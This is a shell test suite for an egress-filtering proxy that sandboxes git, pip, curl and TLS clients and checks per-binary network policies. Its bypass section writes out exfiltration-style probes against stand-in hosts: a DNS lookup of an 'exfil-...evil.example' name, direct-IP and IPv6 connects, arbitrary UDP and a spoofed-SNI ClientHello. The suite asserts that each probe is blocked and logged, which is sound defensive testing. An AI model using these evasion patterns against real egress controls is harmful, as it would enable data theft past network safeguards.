#!/bin/sh
# SPDX-License-Identifier: ISC
# Transparent mode: clients in the sandbox run with no proxy settings at all;
# the fence redirects their TCP to egressd and their DNS to egressd's policy
# DNS server. Real git (smart HTTP), pip (a simple index), curl and a TLS
# client that splits its ClientHello, against the test world.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/world.sh"
. "$(dirname "$0")/egressd.sh"

t_init
world_up || { echo "Bail out! world_up failed"; exit 1; }
egd_sandbox || { echo "Bail out! sandbox"; exit 1; }

HERE=$(cd "$(dirname "$0")" && pwd)
PY=/usr/bin/python3
PYREAL=$(readlink -f $PY)
CA=$WORLD_CA_FILE
GITR=/usr/lib/git-core/git-remote-http
run() { egd_run_transparent "$@"; }

egd_policy policy.yaml <<EOF
version: 1
network_policies:
  git:
    endpoints:
      - { host: github.com, port: 443 }
    binaries:
      - path: $GITR
  pip:
    endpoints:
      - { host: pypi.org, port: 443 }
      - { host: files.pythonhosted.org, port: 443 }
    binaries:
      - path: $PYREAL
  curl:
    endpoints:
      - { host: example.com, ports: [80, 443] }
      - { host: github.com, port: 22, protocol: tcp }
    binaries:
      - path: /usr/bin/curl
      - path: /usr/bin/socat
  tls_probe:
    endpoints:
      - { host: github.com, port: 443 }
    binaries:
      - path: $PYREAL
EOF
egd_start -p "$EGD_POLICY" || { echo "Bail out! egressd did not start"; exit 1; }

# --- git -----------------------------------------------------------------------
run git -c http.sslCAInfo="$CA" clone -q "$WORLD_GIT_URL" "$T_DIR/widget" \
    >"$T_DIR/git.log" 2>&1
t_is "$(git -C "$T_DIR/widget" rev-parse HEAD 2>/dev/null)" "$WORLD_GIT_HEAD" \
	"git clone over HTTPS, transparently (git-remote-http in the policy)"
run git -c http.sslCAInfo="$CA" -C "$T_DIR/widget" fetch -q origin \
    >>"$T_DIR/git.log" 2>&1
t_ok $? "git fetch"
t_check "decided by SNI as git-remote-http" \
	egd_json_has '"file":\{"path":"/usr/lib/git-core/git-remote-http"\}.*"decision":"allowed".*"ingress":"tls"'

# --- pip -------------------------------------------------------------------------
run $PY -m pip download --no-deps --no-cache-dir --cert "$CA" \
    --index-url "$WORLD_PYPI_INDEX" -d "$T_DIR/wheels" egressd-probe \
    >"$T_DIR/pip.log" 2>&1
t_ok $? "pip download of a package from the index (interpreter in the policy)"
t_is "$(sha256sum "$T_DIR"/wheels/*.whl 2>/dev/null | cut -d' ' -f1)" \
	"$WORLD_WHEEL_SHA256" "the wheel arrives intact"

# --- curl ------------------------------------------------------------------------
t_is "$(run curl -s -o /dev/null -w '%{http_code}' --cacert "$CA" https://example.com/)" \
	200 "curl https to an allowed host"
t_is "$(run curl -s -o /dev/null -w '%{http_code}' http://example.com/)" \
	200 "curl plain http to an allowed host (named by Host)"
out=$(run curl -s -o /dev/null -w '%{http_code} %{exitcode}' --cacert "$CA" \
    https://github.com/)
t_is "$out" "000 35" "curl to github.com (not for curl) is reset"
t_check "...and logged with reason binary_not_allowed and a hint" \
	egd_json_has '"hostname":"github.com".*"path":"/usr/bin/curl".*"reason":"binary_not_allowed".*"hint":"add'
out=$(run socat -T 5 - TCP:github.com:22 </dev/null 2>/dev/null | head -1)
t_is "$out" "$WORLD_BANNER" \
	"server-speaks-first TCP (ssh) named by the DNS record, allowed by protocol: tcp"
t_check "...decided as raw TCP named by DNS" \
	egd_json_has '"hostname":"github.com","ip":"198.18.0.10","port":22'

# --- bypass attempts fail fast ------------------------------------------------
out=$(run curl -s -o /dev/null -w '%{http_code} %{exitcode}' --cacert "$CA" \
    --resolve evil.example:443:198.18.0.66 https://evil.example/)
t_is "$out" "000 35" "direct TCP to a world address (no DNS, no proxy): captured and reset"
t_check "...logged as no_matching_policy" \
	egd_json_has '"hostname":"evil.example".*"reason":"no_matching_policy"'
out=$(run curl -s -o /dev/null -w '%{http_code}' --cacert "$CA" \
    --resolve example.com:443:[2001:db8::30] https://example.com/)
t_is "$out" 200 "IPv6 direct connect is captured too (and allowed here)"
out=$(run $PY -c '
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
s.connect(("198.18.0.66", 9999))
try:
    s.send(b"x"); s.recv(1); print("got reply")
except OSError as e:
    print(type(e).__name__)')
t_check "UDP to an arbitrary port fails at once ($out)" \
	sh -c 'case "$1" in PermissionError|ConnectionRefusedError) exit 0;; *) exit 1;; esac' _ "$out"
out=$(run $PY "$WORLD_HERE/world_dns.py" query 198.18.9.9 exfil-abc123.evil.example A 2>&1)
t_check "a DNS query for a name outside the policy is REFUSED" \
	sh -c 'printf "%s" "$1" | grep -q REFUSED' _ "$out"
t_check "...and never reached the world's DNS server" \
	t_not world_dns_seen exfil-abc123.evil.example
t_check "...and is logged with the reason" \
	egd_json_has '"hostname":"exfil-abc123.evil.example".*"reason":"dns_name_not_allowed"'
out=$(run $PY "$WORLD_HERE/world_dns.py" query 198.18.0.53 example.com A 2>&1)
t_check "DNS to another server is answered by egressd's DNS server" \
	sh -c 'printf "%s" "$1" | grep -q "198.18.0.30"' _ "$out"
out=$(run $PY "$WORLD_HERE/world_dns.py" query 198.18.0.53 example.com TYPE16 2>&1)
t_check "record types other than A/AAAA are refused" \
	sh -c 'printf "%s" "$1" | grep -q REFUSED' _ "$out"

# --- a source port used again towards another destination -----------------------
# The second flow's reply tuple would be the first one's, still in
# conntrack: NAT gives it another source port, and only conntrack knows the
# client's own, which the caller lookup needs.
out=$(run $PY -c '
import socket, ssl, sys
ctx = ssl.create_default_context(cafile=sys.argv[3])
for host, addr in (("github.com", sys.argv[1]), ("pypi.org", sys.argv[2])):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", 40000))
    s.connect((addr, 443))
    try:
        t = ctx.wrap_socket(s, server_hostname=host)
        t.sendall(b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\nConnection: close\r\n\r\n")
        print(host, t.recv(12).decode())
        t.close()
    except OSError as e:
        print(host, "failed:", e)
' "$(world_addr github.com)" "$(world_addr pypi.org)" "$CA")
t_is "$(printf '%s' "$out" | tr '\n' ' ')" "github.com HTTP/1.1 200 pypi.org HTTP/1.1 200" \
	"one source port to two destinations in a row: both identified and allowed"
t_check "...the second as the client's own port (40000), not NAT's" \
	egd_json_has '"src_endpoint":\{"ip":"[^"]*","port":40000\}.*"hostname":"pypi.org".*"decision":"allowed"'

# --- ClientHello handling --------------------------------------------------------
for mode in whole segments records both; do
	out=$(run $PY "$HERE/tls_client.py" 198.18.0.10 443 github.com "$CA" $mode)
	t_is "$out" "HTTP/1.1 200 OK" "ClientHello sent $mode: read, decided, relayed"
done
out=$(run $PY "$HERE/tls_client.py" 198.18.0.10 443 github.com "$CA" oversize)
t_check "an oversized ClientHello is refused ($out)" \
	sh -c 'case "$1" in reset|closed) exit 0;; *) exit 1;; esac' _ "$out"
t_check "...with reason tls_hello_too_large" egd_json_has '"reason":"tls_hello_too_large"'
# SNI github.com toward evil.example's address: egressd dials a validated
# address of github.com, never the address the client chose.
out=$(run $PY "$HERE/tls_client.py" 198.18.0.66 443 github.com "$CA" whole)
t_is "$out" "HTTP/1.1 200 OK" "SNI spoofed toward another address: served by the real github.com"
t_check "...the spoofed address was never dialed" \
	sh -c '! grep -q "198.18.0.66:443" "$1"' _ "$WORLD_ACCESS_LOG"
t_check "...and the log says why" \
	egd_json_has 'original destination 198.18.0.66 is not among the validated addresses of github.com'

# --- symlink in the policy ----------------------------------------------------
egd_stop
egd_policy symlink.yaml <<EOF
version: 1
network_policies:
  git:
    endpoints:
      - { host: github.com, port: 443 }
    binaries:
      - path: /usr/lib/git-core/git-remote-https
EOF
egd_start -p "$EGD_POLICY" --enforce-all || { echo "Bail out! restart"; exit 1; }
t_check "load-time warning names the real path" \
	grep -q "git-remote-https is a symlink to /usr/lib/git-core/git-remote-http" "$EGD_LOG"
run git -c http.sslCAInfo="$CA" ls-remote "$WORLD_GIT_URL" >/dev/null 2>&1
t_ok $(( $? == 0 )) "git with only the symlink in the policy is denied"
t_check "...with the symlink hint naming the real path" \
	egd_json_has '"reason":"binary_symlink".*write .- path: /usr/lib/git-core/git-remote-http. instead'

# --- pip with only the script in the policy -------------------------------------
egd_stop
egd_policy pip3.yaml <<EOF
version: 1
network_policies:
  pip:
    endpoints:
      - { host: pypi.org, port: 443 }
      - { host: files.pythonhosted.org, port: 443 }
    binaries:
      - path: /usr/bin/pip3
EOF
egd_start -p "$EGD_POLICY" || { echo "Bail out! restart"; exit 1; }
run /usr/bin/pip3 download --no-deps --no-cache-dir --cert "$CA" \
    --index-url "$WORLD_PYPI_INDEX" -d "$T_DIR/wheels2" egressd-probe \
    >"$T_DIR/pip3.log" 2>&1
t_ok $(( $? == 0 )) "pip with only /usr/bin/pip3 in the policy is denied"
t_check "...with a hint that pip runs as the interpreter" \
	egd_json_has '"reason":"binary_is_script".*list the interpreter'

# --- audit vs enforce with the engineer example -------------------------------
egd_stop
egd_start -p "$EGD_ROOT/policies/examples/engineer.yaml" --audit-all ||
	{ echo "Bail out! restart"; exit 1; }
t_is "$(run curl -s -o /dev/null -w '%{http_code}' --cacert "$CA" https://evil.example/)" \
	200 "engineer policy, audit: a denied destination passes"
t_check "...logged as would_deny" \
	egd_json_has '"hostname":"evil.example".*"decision":"would_deny","reason":"no_matching_policy"'
egd_stop
egd_start -p "$EGD_ROOT/policies/examples/engineer.yaml" --enforce-all ||
	{ echo "Bail out! restart"; exit 1; }
t_is "$(run curl -s -o /dev/null -w '%{http_code}' --cacert "$CA" https://evil.example/)" \
	000 "engineer policy, enforce: the same destination is reset"
t_is "$(run curl -s -o /dev/null -w '%{http_code}' --cacert "$EGD_CA_BUNDLE" https://github.com/)" \
	200 "engineer policy, enforce: curl to github.com is allowed (intercepted: protocol rest)"

egd_stop
t_done
